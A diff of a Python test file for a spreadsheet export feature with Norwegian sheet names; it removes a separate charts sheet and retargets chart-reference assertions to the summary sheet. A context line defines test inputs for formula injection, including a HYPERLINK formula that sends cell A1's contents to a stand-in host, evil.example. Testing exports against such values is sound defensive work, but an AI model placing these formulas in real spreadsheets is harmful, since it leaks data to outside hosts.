@@ -30,7 +30,6 @@ GENERATED = timezone.make_aware(datetime.datetime(2021, 4, 30, 12, 0))
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\x00=1"]
 OFFICE_SHEETS = [
     "Sammendrag",
-    "Diagrammer",
     "Kommuner",
     "Mangler",
     "Prioriteringer",
@@ -184,8 +183,7 @@ def test_the_office_package_looks_finished_and_holds_no_codes(spring, office_a, 
     header = next(i for i, r in enumerate(rows(wb["Sammendrag"]), start=1) if r[0] == "Kode")
     charted = [key for key in spring.figures if key in FIGURES]
     first, last = header + 2, header + 1 + len(charted)
-    assert chart_references(content, "Sammendrag") == []  # the charts are on clean cells of their own sheet
-    assert chart_references(content, "Diagrammer") == [
+    assert chart_references(content, "Sammendrag") == [
         f"'Sammendrag'!$D${header}",
         f"'Sammendrag'!$B${first}:$B${last}",
         f"'Sammendrag'!$D${first}:$D${last}",
